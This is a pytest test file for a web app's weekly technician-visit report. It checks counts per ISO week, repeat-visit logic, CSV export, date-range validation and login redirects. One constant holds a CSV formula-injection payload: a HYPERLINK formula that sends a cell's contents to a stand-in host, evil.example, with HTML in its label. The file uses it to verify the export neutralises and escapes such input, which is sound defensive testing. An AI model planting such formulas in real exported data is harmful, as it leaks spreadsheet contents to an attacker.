"""The weekly report over visits pushed through the real API: the numbers per technician
and ISO week, the repeat-visit window, the CSV (same rows, a download, formula-safe), the
date-range form's limits, roles."""

from __future__ import annotations

import csv
import html
import io
import re
from datetime import UTC, datetime, timedelta
from typing import Any

import pytest
from markupsafe import escape
from sqlalchemy import select

from syncserver.db.models import User, Visit, VisitRepeat
from syncserver.services.repeats import fill
from syncserver.services.reports import OUTCOMES, REPEAT_DAYS
from syncserver.web.reports import CSV_COLUMNS, spreadsheet_safe
from tests.server.conftest import World, add_user, op, visit
from tests.server.web_helpers import login

EVIL = '=HYPERLINK("http://evil.example/?x="&A1,"<b>click</b>")'
RANGE = "since=2026-11-16&until=2026-12-27"  # ISO weeks 47 to 52


def _v(visit_id: str, technician: str, meter: str, start: str, end: str | None, outcome: str,
       checks: list[dict[str, str]]) -> dict[str, Any]:  # fmt: skip
    worst = "fail" if any(c["status"] == "fail" for c in checks) else (
        "warn" if any(c["status"] == "warn" for c in checks) else "pass"
    )  # fmt: skip
    return visit(
        visit_id,
        work_order=None,
        technician=technician,
        meter_number=meter,
        started_at=start,
        ended_at=end,
        saved_at=end or start,
        outcome=outcome,
        checks=checks,
        verdict=worst,
    )


def _fail(check: str) -> dict[str, str]:
    return {"id": check, "status": "fail", "message": "bad"}


def _seed(world: World) -> None:
    add_user(world.database, EVIL, "technician")
    device, headers = world.enroll(EVIL)
    ours = [
        # Before the range: it makes the evil technician's visit below a repeat.
        _v("a0", "demo-tech", "M2S-0034567", "2026-11-13T09:00:00Z", "2026-11-13T09:15:00Z",
           "resolved", []),
        _v("a1", "demo-tech", "M2S-0012345", "2026-11-16T09:00:00Z", "2026-11-16T09:30:00Z",
           "resolved", [_fail("polarity"), _fail("voltage")]),
        _v("a2", "demo-tech", "M2S-0012345", "2026-11-20T10:00:00Z", "2026-11-20T10:45:00Z",
           "follow_up", [{"id": "clock_drift", "status": "warn", "message": "fast"}]),
        _v("a3", "demo-tech", "M16-0065432", "2026-11-23T08:00:00Z", None, "no_access", []),
        # 31 days after a2: past the 30-day window, not a repeat.
        _v("a4", "demo-tech", "M2S-0012345", "2026-12-21T09:00:00Z", "2026-12-21T09:10:00Z",
           "resolved", []),
    ]  # fmt: skip
    answer = world.push(world.tech, world.tech_device, [op(f"op-{d['visit_id']}", d) for d in ours])
    assert {r["status"] for r in answer.json()["results"]} == {"applied"}, answer.text
    theirs = _v("h1", EVIL, "M2S-0034567", "2026-11-24T13:00:00Z", "2026-11-24T13:20:00Z",
                "resolved", [])  # fmt: skip
    answer = world.push(headers, device, [op("op-h1", theirs)])
    assert answer.json()["results"][0]["status"] == "applied", answer.text


def _csv(world: World, query: str) -> list[dict[str, str]]:
    answer = world.client.get(f"/reports.csv?{query}")
    assert answer.status_code == 200, answer.text
    assert answer.headers["content-type"].startswith("text/csv")
    disposition = answer.headers["content-disposition"]
    assert re.fullmatch(
        r'attachment; filename="fieldkit-report-[\d-]+-to-[\d-]+\.csv"', disposition
    )
    if query == RANGE:
        assert "2026-11-16-to-2026-12-27" in disposition
    rows = list(csv.DictReader(io.StringIO(answer.text)))
    return rows


def test_the_report_counts_each_technicians_weeks(world: World) -> None:
    _seed(world)
    login(world.client, "olga")
    rows = _csv(world, RANGE)
    got = {
        (r["technician"], r["iso_week"]): (
            int(r["visits"]), int(r["outcome_resolved"]), int(r["outcome_follow_up"]),
            int(r["outcome_no_access"]), int(r["visits_with_failed_check"]),
            int(r["checks_failed"]), int(r["timed_visits"]), r["hours_on_site"],
            r["minutes_per_visit"], int(r["repeat_visits"]),
        )
        for r in rows
    }  # fmt: skip
    assert got == {
        ("'" + EVIL, "2026-W48"): (1, 1, 0, 0, 0, 0, 1, "0.33", "20.0", 1),
        ("demo-tech", "2026-W47"): (2, 1, 1, 0, 1, 2, 2, "1.25", "37.5", 1),
        ("demo-tech", "2026-W48"): (1, 0, 0, 1, 0, 0, 0, "0.00", "", 0),
        ("demo-tech", "2026-W52"): (1, 1, 0, 0, 0, 0, 1, "0.17", "10.0", 0),
    }
    assert [r["week_start"] for r in rows if r["technician"] == "demo-tech"] == [
        "2026-11-16", "2026-11-23", "2026-12-21",
    ]  # fmt: skip
    # One ISO week alone (the benchmark's ?week=), from any day in it.
    one = _csv(world, "week=2026-11-19")
    assert [(r["technician"], r["iso_week"], r["visits"]) for r in one] == [
        ("demo-tech", "2026-W47", "2")
    ]


def test_the_csv_is_formula_safe_and_the_page_escapes(world: World) -> None:
    _seed(world)
    login(world.client, "olga")
    answer = world.client.get(f"/reports.csv?{RANGE}")
    lines = answer.text.splitlines()
    assert lines[0] == ",".join(CSV_COLUMNS)
    evil = [r for r in csv.reader(io.StringIO(answer.text)) if "HYPERLINK" in r[0]]
    assert len(evil) == 1
    assert evil[0][0] == "'" + EVIL  # a spreadsheet shows it as text, never runs it
    assert not any(cell.startswith(("=", "+", "@", "\t", "\r")) for row in evil for cell in row)
    page = world.client.get(f"/reports?{RANGE}")
    assert page.status_code == 200
    assert "<b>click</b>" not in page.text
    assert "&lt;b&gt;click&lt;/b&gt;" in page.text
    # The chart: one bar segment per technician and week with visits, the legend escaped.
    bars = re.findall(r'<rect class="bar" [^>]*data-week="([^"]+)" data-series="([^"]+)" '
                      r'data-value="(\d+)"', page.text)  # fmt: skip
    assert sorted((w, v) for w, _, v in bars) == [
        ("2026-W47", "2"), ("2026-W48", "1"), ("2026-W48", "1"), ("2026-W52", "1"),
    ]  # fmt: skip
    assert "30 days before it" in page.text
    assert f'href="/reports.csv?{RANGE.replace("&", "&amp;")}"' in page.text


def test_the_page_table_shows_each_technicians_weeks(world: World) -> None:
    """The page's table: a row per technician and week, its cells as the figures worked out
    by hand for the visits seeded (hours to a tenth, minutes per visit whole), the name
    escaped."""
    _seed(world)
    login(world.client, "olga")
    page = world.client.get(f"/reports?{RANGE}").text
    body = page.split("<tbody>", 1)[1].split("</tbody>", 1)[0]
    rows = [
        re.findall(r"<td>(.*?)</td>", tr, re.S) for tr in re.findall(r"<tr>(.*?)</tr>", body, re.S)
    ]
    assert rows[0][0] == str(escape(EVIL))  # the name as text, never as markup
    shown = [[html.unescape(re.sub(r"<[^>]+>", "", cell)) for cell in row] for row in rows]
    # 1.25 hours is a tie at a tenth; SQLite's julianday() difference lands a hair above it.
    assert shown[1][12] in ("1.2", "1.3")
    shown[1][12] = "1.25"
    # Technician, week, visits, the six outcomes and none, with a failed check, checks
    # failed, hours on site, minutes per visit, repeats.
    assert shown == [
        [EVIL, "2026-W48 2026-11-23", "1", "1", "0", "0", "0", "0", "0", "0", "0", "0",
         "0.3", "20", "1"],
        ["demo-tech", "2026-W47 2026-11-16", "2", "1", "1", "0", "0", "0", "0", "0", "1", "2",
         "1.25", "38", "1"],
        ["demo-tech", "2026-W48 2026-11-23", "1", "0", "0", "0", "0", "1", "0", "0", "0", "0",
         "0.0", "", "0"],
        ["demo-tech", "2026-W52 2026-12-21", "1", "1", "0", "0", "0", "0", "0", "0", "0", "0",
         "0.2", "10", "0"],
    ]  # fmt: skip


def test_the_figures_are_a_count_of_the_stored_visits(world: World) -> None:
    """Several visits per technician, outcome and week (none without an outcome): each
    figure of the CSV is the count, worked out here, of the visits as stored."""
    login(world.client, "olga")
    week = [  # (outcome, failed checks, minutes on site or None: no end)
        ("resolved", 2, 30), ("resolved", 0, 45), ("resolved", 1, None), ("follow_up", 0, 20),
        ("follow_up", 0, 15), (None, 0, 10), ("no_access", 0, None), ("no_comms", 3, 5),
    ]  # fmt: skip
    ours = []
    for n, (outcome, failed, minutes) in enumerate(week * 2):
        start = datetime(2026, 11, 16 + n % 7, 8 + n // 7, 0, tzinfo=UTC) + timedelta(
            days=7 * (n // 8)
        )
        end = None if minutes is None else start + timedelta(minutes=minutes)
        ours.append(
            _v(f"n{n}", "demo-tech", "M2S-0012345", start.isoformat(),
               None if end is None else end.isoformat(), outcome,  # type: ignore[arg-type]
               [_fail(f"check{i}") for i in range(failed)])
        )  # fmt: skip
    answer = world.push(world.tech, world.tech_device, [op(f"op-{d['visit_id']}", d) for d in ours])
    assert {r["status"] for r in answer.json()["results"]} == {"applied"}, answer.text
    with world.database.read() as session:
        stored = session.execute(
            select(User.name, Visit.visited_at, Visit.ended_at, Visit.outcome, Visit.verdict,
                   Visit.checks_failed).join(User, User.id == Visit.technician_id)
        ).all()  # fmt: skip
    expected: dict[tuple[str, str], dict[str, Any]] = {}
    for name, at, end, outcome, verdict, checks in stored:
        year, number, _ = at.isocalendar()
        row = expected.setdefault(
            (name, f"{year}-W{number:02d}"),
            {"visits": 0, "failed": 0, "checks": 0, "timed": 0, "seconds": 0.0,
             "outcomes": dict.fromkeys((*OUTCOMES, "none"), 0)},
        )  # fmt: skip
        row["visits"] += 1
        row["outcomes"][outcome or "none"] += 1
        row["failed"] += verdict == "fail"
        row["checks"] += checks
        if end is not None and end >= at:
            row["timed"] += 1
            row["seconds"] += (end - at).total_seconds()
    got = {
        (r["technician"], r["iso_week"]): {
            "visits": int(r["visits"]), "failed": int(r["visits_with_failed_check"]),
            "checks": int(r["checks_failed"]), "timed": int(r["timed_visits"]),
            "seconds": float(r["hours_on_site"]) * 3600,
            "outcomes": {code: int(r[f"outcome_{code}"]) for code in (*OUTCOMES, "none")},
        }
        for r in _csv(world, RANGE)
    }  # fmt: skip
    for row in expected.values():
        row["seconds"] = round(row["seconds"] / 3600, 2) * 3600  # the CSV's hundredths
    assert len(expected) == 2
    assert got == expected


@pytest.mark.parametrize(
    ("cell", "safe"),
    [
        ("=1+2", "'=1+2"),
        ("+1", "'+1"),
        ("-1", "'-1"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\tx", "'\tx"),
        ("\rx", "'\rx"),
        ("demo-tech", "demo-tech"),
        ("a=b", "a=b"),
        (12, "12"),
        (None, ""),
    ],
)
def test_spreadsheet_safe(cell: object, safe: str) -> None:
    assert spreadsheet_safe(cell) == safe


def test_the_range_form_refuses_what_it_cannot_show(world: World) -> None:
    login(world.client, "olga")
    backwards = world.client.get("/reports?since=2026-12-01&until=2026-11-01")
    assert backwards.status_code == 400
    assert "start is after its end" in backwards.text
    long = world.client.get("/reports.csv?since=2025-01-01&until=2026-12-01")
    assert long.status_code == 400
    assert "at most 26 weeks" in long.text
    assert world.client.get("/reports?since=yesterday").status_code == 400
    empty = world.client.get("/reports?since=2020-01-06&until=2020-01-12")
    assert "No visits in these weeks" in empty.text


def test_logged_out_and_tokens_are_sent_to_login(world: World) -> None:
    for headers in ({}, world.tech, world.admin):
        for path in ("/reports", "/reports.csv"):
            answer = world.client.get(path, headers=headers, follow_redirects=False)
            assert answer.status_code == 303
            assert answer.headers["location"].startswith("/login?next=/reports")


A, B, C = "M2S-0012345", "M2S-0034567", "M16-0065432"
SPAN = "since=2026-09-28&until=2026-12-27"  # ISO weeks 40 to 52


def _at(
    world: World, headers: dict[str, str], device: str, visit_id: str, revision: int, **fields: Any
) -> None:
    """Push ``visit_id`` at ``revision`` (the meter by number unless a work order says)."""
    document = visit(
        visit_id,
        op_id=f"op-{visit_id}-{revision}",
        **{"work_order": None, "revision": revision, **fields},
    )
    answer = world.push(headers, device, [op(f"op-{visit_id}-{revision}", document)])
    assert answer.json()["results"][0]["status"] == "applied", answer.text


def _stored(world: World) -> list[tuple[str, str, int | None, datetime, datetime | None]]:
    """Every visit: id, technician, meter, time, and its ``visit_repeats.previous_at``."""
    with world.database.read() as session:
        rows = session.execute(
            select(Visit.visit_id, User.name, Visit.meter_id, Visit.visited_at,
                   VisitRepeat.previous_at)
            .join(User, User.id == Visit.technician_id)
            .outerjoin(VisitRepeat, VisitRepeat.visit_pk == Visit.id)
        ).all()  # fmt: skip
    return [tuple(r) for r in rows]  # type: ignore[misc]


def _repeats_as_defined(world: World) -> set[str]:
    """The repeat visits by the report's definition, worked out here from the visits alone;
    and ``visit_repeats`` must hold what that definition says of every visit."""
    stored = _stored(world)
    found = set()
    for visit_id, _, meter, at, kept in stored:
        earlier = [t for v, _, m, t, _ in stored if m == meter and meter is not None and t < at]
        assert kept == (max(earlier) if earlier else None), visit_id
        if earlier and max(earlier) >= at - timedelta(days=REPEAT_DAYS):
            found.add(visit_id)
    return found


def _report_repeats(world: World) -> dict[tuple[str, str], int]:
    rows = _csv(world, SPAN)
    return {(r["technician"], r["iso_week"]): int(r["repeat_visits"]) for r in rows}


def _check(world: World, repeats: set[str]) -> None:
    """The repeats are ``repeats``, in ``visit_repeats`` and in the report's figures."""
    assert _repeats_as_defined(world) == repeats
    got = _report_repeats(world)
    expected = dict.fromkeys(got, 0)
    for visit_id, technician, _, at, _ in _stored(world):
        if visit_id in repeats:
            year, week, _ = at.isocalendar()
            key = (technician, f"{year}-W{week:02d}")
            expected[key] = expected.get(key, 0) + 1
    assert got == expected


def test_repeat_visits_follow_late_arrivals_and_revisions(world: World) -> None:
    """A visit is a repeat when its meter had another visit in the REPEAT_DAYS before it
    (exactly REPEAT_DAYS before counts, a fraction of a second more does not); ingest
    keeps that right when a visit arrives out of order, when a revision moves a visit's
    time or its meter (by number or by work order) or takes its meter away, for two
    technicians, on both engines."""
    login(world.client, "olga")
    tech = (world, world.tech, world.tech_device)
    bob = (world, world.bob, world.bob_device)
    _at(*tech, "a1", 1, meter_number=A, started_at="2026-10-05T09:00:00Z")
    _at(*tech, "a2", 1, meter_number=A, started_at="2026-11-04T09:00:00Z")  # 30 days
    _at(*tech, "a3", 1, meter_number=A, started_at="2026-12-04T09:00:01Z")  # 30 d 1 s
    _at(*tech, "b1", 1, meter_number=B, started_at="2026-10-20T10:00:00Z")
    _at(*bob, "c1", 1, meter_number=C, started_at="2026-11-10T08:00:00Z")
    _at(*bob, "b2", 1, meter_number=B, started_at="2026-11-25T10:00:00Z")  # 36 days
    _check(world, {"a2"})
    # Out of order, in one push: each is a repeat and makes the meter's next visit one.
    late = [
        op("op-a4-1", visit("a4", None, op_id="op-a4-1", meter_number=A,
                            started_at="2026-11-20T12:00:00Z")),
        op("op-b3-1", visit("b3", None, op_id="op-b3-1", meter_number=B,
                            started_at="2026-11-01T10:00:00Z")),
    ]  # fmt: skip
    answer = world.push(world.bob, world.bob_device, late)
    assert [r["status"] for r in answer.json()["results"]] == ["applied"] * 2
    _check(world, {"a2", "a4", "a3", "b3", "b2"})
    # a4 moves back before a1: a1 becomes a repeat of it, a3 is no longer one of a4's.
    _at(*bob, "a4", 2, meter_number=A, started_at="2026-10-01T09:00:00Z")
    _check(world, {"a1", "a2", "b3", "b2"})
    # b3 moves to meter C at the same time: b2 loses it, c1 gains it.
    _at(*bob, "b3", 2, meter_number=C, started_at="2026-11-01T10:00:00Z")
    _check(world, {"a1", "a2", "c1"})
    # a2's meter becomes one the server does not know: a3's previous visit is a1's.
    _at(*tech, "a2", 2, meter_number="M2S-9999999", started_at="2026-11-04T09:00:00Z")
    _check(world, {"a1", "c1"})
    # a3's work order is for meter C: it follows c1 there by 24 days.
    _at(*tech, "a3", 2, work_order="WO-2026-10408", meter_number=None,
        started_at="2026-12-04T09:00:01Z")  # fmt: skip
    _check(world, {"a1", "c1", "a3"})
    # Half a second more than the window after b2 (SQLite compares the times as text).
    _at(*bob, "b4", 1, meter_number=B, started_at="2026-12-25T10:00:00.500000Z")
    _check(world, {"a1", "c1", "a3"})


def _repeat_rows(world: World) -> list[tuple[str, datetime, datetime]]:
    with world.database.read() as session:
        rows = session.execute(
            select(Visit.visit_id, VisitRepeat.visited_at, VisitRepeat.previous_at)
            .join(Visit, Visit.id == VisitRepeat.visit_pk)
            .order_by(Visit.visit_id)
        ).all()
    return [tuple(r) for r in rows]  # type: ignore[misc]


def test_a_push_mixing_newest_and_late_visits_keeps_what_a_fill_gives(world: World) -> None:
    """One push where most visits are the newest of their meter (those skip the next-visit
    step) and some are not: arriving before a stored visit, before another of the same
    push, or at the same time as the newest: every row is what a fill from scratch gives."""
    tech = (world, world.tech, world.tech_device)
    _at(*tech, "a1", 1, meter_number=A, started_at="2026-10-10T09:00:00Z")
    _at(*tech, "a2", 1, meter_number=A, started_at="2026-10-20T09:00:00Z")
    _at(*tech, "b1", 1, meter_number=B, started_at="2026-10-05T09:00:00Z")
    batch = [
        ("n1", A, "2026-10-30T09:00:00Z"),  # newest of A, then n2 follows it in this push
        ("n2", A, "2026-10-31T09:00:00Z"),
        ("l1", A, "2026-10-15T09:00:00Z"),  # between a1 and a2: a2's previous becomes it
        ("l2", B, "2026-10-01T09:00:00Z"),  # before b1: b1 gets a previous visit
        ("n3", B, "2026-10-06T09:00:00Z"),
        ("t1", B, "2026-10-06T09:00:00Z"),  # the same time as n3, the newest of B too
        ("c1", C, "2026-10-02T09:00:00Z"),  # C's first visit
    ]
    ops = [
        op(f"op-{v}", visit(v, None, op_id=f"op-{v}", meter_number=m, started_at=at))
        for v, m, at in batch
    ]
    answer = world.push(world.bob, world.bob_device, ops)
    assert [r["status"] for r in answer.json()["results"]] == ["applied"] * len(batch)
    kept = _repeat_rows(world)
    assert {v for v, _, _ in kept} == {"l1", "a2", "n1", "n2", "b1", "n3", "t1"}
    with world.database.write() as session:
        fill(session)
    assert kept == _repeat_rows(world)
